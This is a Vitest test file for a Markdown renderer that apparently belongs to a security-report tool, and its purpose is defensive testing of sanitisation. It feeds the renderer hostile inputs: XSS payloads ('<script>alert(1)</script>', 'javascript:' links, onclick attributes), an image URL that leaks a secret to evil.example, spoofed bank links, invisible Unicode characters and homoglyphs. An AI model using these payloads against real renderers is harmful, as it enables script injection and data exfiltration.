import fs from 'node:fs';
import path from 'node:path';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { FrontMatterSummary } from './front-matter';
import { indicatorsIn } from './indicators';
import { Markdown } from './markdown';
import { headingsOf } from './prepare';

const render = (source: string, props: Partial<Parameters<typeof Markdown>[0]> = {}) =>
  renderToStaticMarkup(<Markdown source={source} {...props} />);

const CORPUS = path.resolve('fixtures/attack-corpus/markdown');
const read = (file: string): { payload: string }[] => JSON.parse(fs.readFileSync(path.join(CORPUS, file), 'utf8'));

/** Every tag of static markup, as name and attributes. Text is escaped there, so a `<` is always a tag. */
function tagsOf(html: string): { name: string; attributes: Record<string, string> }[] {
  return [...html.matchAll(/<([a-z][a-z0-9]*)((?:\s+[^\s=>/]+(?:="[^"]*")?)*)\s*\/?>/gi)].map(
    ([, name = '', rest = '']) => ({
      name: name.toLowerCase(),
      attributes: Object.fromEntries(
        [...rest.matchAll(/\s+([^\s=>/]+)(?:="([^"]*)")?/g)].map(([, key = '', value = '']) => [
          key.toLowerCase(),
          value,
        ]),
      ),
    }),
  );
}

const LOADING = [
  'src',
  'srcset',
  'srcdoc',
  'action',
  'formaction',
  'background',
  'poster',
  'data',
  'ping',
  'style',
  'xlink:href',
];
const ALLOWED_TAGS = new Set(
  'div p h2 h3 h4 h5 h6 blockquote ul ol li hr br pre code em strong del a input section table thead tbody tr th td span button svg path line polyline rect circle dl dt dd'.split(
    ' ',
  ),
);

/** What a hostile text must never bring into the page. */
function harmIn(html: string): string[] {
  const harm: string[] = [];
  for (const { name, attributes } of tagsOf(html)) {
    if (!ALLOWED_TAGS.has(name)) harm.push(`<${name}>`);
    for (const [key, value] of Object.entries(attributes)) {
      if (key.startsWith('on')) harm.push(`${name} ${key}`);
      if (LOADING.includes(key)) harm.push(`${name} ${key}=${value}`);
      if (key === 'href') {
        if (name !== 'a') harm.push(`${name} href`);
        if (!/^(https?:\/\/|#)/i.test(value)) harm.push(`href=${value}`);
        if (/^https?:/i.test(value) && attributes.rel !== 'noopener noreferrer nofollow') harm.push(`no rel: ${value}`);
      }
      if (key === 'id') harm.push(`id=${value}`); // ours are on headings, taken off before
    }
  }
  return harm;
}

describe('hostile text', () => {
  const files = ['markdown_exfil.json', 'markdown_html_xss.json', 'cc-by-sa/commonmark_html_links.json'];
  it.each(files)('%s: loads nothing, runs nothing, links nothing but http(s)', (file) => {
    const payloads = read(file);
    expect(payloads.length).toBeGreaterThan(40);
    for (const { payload } of payloads) {
      for (const streaming of [false, true]) {
        const html = render(payload, { streaming, report: true }).replace(/(<h[2-6]) id="[\p{L}\p{N}-]+"/gu, '$1');
        expect(harmIn(html), payload).toEqual([]);
      }
    }
  });

  it('the check itself finds harm', () => {
    for (const html of [
      '<img src="https://x"/>',
      '<a href="javascript:alert(1)">',
      '<p onclick="x">',
      '<a href="https://x">',
      '<script>',
    ]) {
      expect(harmIn(html).length).toBeGreaterThan(0);
    }
  });

  it('shows raw HTML as text: an analyst must see it', () => {
    expect(render('before <b onclick=x>bold</b>\n\n<script>alert(1)</script>')).toContain(
      '&lt;script&gt;alert(1)&lt;/script&gt;',
    );
  });

  it('replaces an image by its words and its defanged address', () => {
    const html = render('![the chart](https://evil.example/x.png?d=SECRET)');
    expect(html).not.toContain('<img');
    expect(html).toContain('Image not loaded: the chart · hxxps://evil[.]example/x.png?d=SECRET');
  });

  it('shows the host of a foreign link whose words hide it, and no link for other schemes', () => {
    expect(render('[your bank](https://evil.example/login)')).toContain('(evil.example)');
    for (const target of [
      'javascript:alert(1)',
      'data:text/html,x',
      'vbscript:x',
      '//evil.example',
      'mailto:a@b.example',
      '/queue',
      'https://user:pw@evil.example',
    ]) {
      expect(render(`[x](${target})`), target).not.toContain('<a ');
    }
  });

  it('marks characters that can’t be seen', () => {
    const html = render('pay\u202Eload and `co\u200Bde`');
    expect(html).not.toMatch(/[\u202E\u200B]/);
    expect(html).toContain('U+202E');
    expect(html).toContain('>ZWSP</span>');
    expect(render('p\u0430ypal.com')).toContain('etter from another script: U+0430');
  });
});

describe('text without end', () => {
  it.each([
    ['lists', '- '.repeat(1000)],
    ['quotes', '>'.repeat(3000)],
    ['emphasis', '*a **b '.repeat(500) + '** a* '.repeat(500)],
  ])('%s nested too deep are shown as they are, with the reason', (_, nested) => {
    const html = render(`before\n\n${nested}\n\nafter`);
    expect(html).toMatch(/shown (?:as plain text|without formatting)/);
    expect(html).toContain('before');
    expect(html).toContain('after');
  });

  it('of cells that a row has too many is shown', () => {
    expect(render('| a |\n|---|\n| b | extra |\n')).toContain('extra');
  });

  it('that looks like indicators costs no more than its length', () => {
    const started = process.cpuUsage();
    indicatorsIn('a.'.repeat(50_000));
    indicatorsIn('a[.]'.repeat(25_000));
    expect(process.cpuUsage(started).user / 1000).toBeLessThan(1000);
  });
});

describe('citations', () => {
  it('become buttons in text, not in code', () => {
    const html = render('Reads rose [E3], see `[E4]`.\n\n```\n[E5]\n```');
    expect(html).toContain('aria-label="Show evidence E3"');
    expect(html).not.toContain('evidence E4');
    expect(html).not.toContain('evidence E5');
  });

  it('are marked when there is no such evidence', () => {
    const html = render('[E3] [E9]', { evidence: new Set([3]) });
    expect(html).toContain('Show evidence E3');
    expect(html).toContain('Evidence E9 doesn’t exist');
  });

  it('of many records at one place are one button that names them', () => {
    const known = { evidence: new Set([3, 4, 5, 6, 7, 9]) };
    for (const source of ['Reads [E3–E7], [E9].', 'Reads [E3] [E4] [E5][E6] [E7, E9].']) {
      const html = render(source, known);
      expect(html).toContain('aria-label="Show 6 citations: E3–E7, E9"');
      expect(html.match(/<button/g)).toHaveLength(1);
    }
    expect(render('[E3–E12]', known)).toContain('E3–E12. E8, E10, E11, E12 don’t exist');
    expect(render('[E3] rose, [E4] fell [E5, E6].').match(/Show evidence/g)).toHaveLength(4);
  });

  it('are not cut by a link label of the same form', () => {
    expect(render('[E3]: https://evil.example\n\n[E3]')).toContain('E3');
  });
});

describe('indicators', () => {
  it('stand as in the source and carry the raw value to copy', () => {
    const html = render('From 185[.]220[.]101[.]4 to hxxps://bad[.]example/a and `arn:aws:iam::123456789012:user/ben`');
    expect(html).toContain('>185[.]220[.]101[.]4</button>');
    expect(html).toContain('>hxxps://bad[.]example/a</button>');
    expect(html).toContain('>arn:aws:iam::123456789012:user/ben</button>');
  });

  it('does not take versions, times and plain numbers for addresses', () => {
    expect(render('1.2.3 at 03:04:05, 999.1.1.1, 1.2.3.4.5')).not.toContain('<button');
  });
});

describe('blocks', () => {
  it('carry what belongs to a section below its heading, before its text', () => {
    const below = new Map([['timeline', <i key="picture">picture</i>]]);
    for (const source of ['# T\n\n## Timeline\n\ntext', '# T\n\n## Timeline\ntext']) {
      expect(render(source, { below })).toMatch(/Timeline<\/h3><i>picture<\/i>.*text/s);
    }
  });

  it('have headings from the second level on, none of it left out, with the ids they had', () => {
    const headings = (source: string) =>
      [...render(source, { report: true }).matchAll(/<(h[1-6]) id="([^"]*)"/g)].map(([, tag, id]) => `${tag} ${id}`);
    expect(headings('---\ntitle: x\n---\n\n## Summary\n\n### Findings\n\n## Timeline\n')).toEqual([
      'h2 summary',
      'h3 findings',
      'h2 timeline',
    ]);
    expect(headings('# T\n\n## A\n\n##### B\n\n## A\n')).toEqual(['h2 t', 'h3 a', 'h4 b', 'h3 a-2']);
  });

  it('carry the line of the source, their parts the lines below', () => {
    const html = render('# T\n\n- one\n- two\n');
    expect(html).toContain('<div data-line="3"><ul');
    expect(html).toMatch(/<li[^>]*data-offset="1"/);
  });

  it('count from behind the front matter of a report', () => {
    const html = render('---\ntitle: x\n---\n\n# T\n', { report: true });
    expect(renderToStaticMarkup(<FrontMatterSummary source={'---\ntitle: x\n---\n'} />)).toContain(
      'Front matter: codename',
    );
    expect(html).toMatch(/data-line="[45]"/);
    expect(headingsOf('---\ntitle: x\n---\n\n# T\n')[0]).toMatchObject({ id: 't', text: 'T', line: 5 });
  });

  it('show a footnote’s words instead of losing them', () => {
    expect(render('As said[^1].\n\n[^1]: By whom.')).toContain('[^1]: By whom.');
  });

  it('complete what is unfinished only while streaming', () => {
    expect(render('all **bo', { streaming: true })).toContain('<strong');
    expect(render('all **bo')).not.toContain('<strong');
  });
});
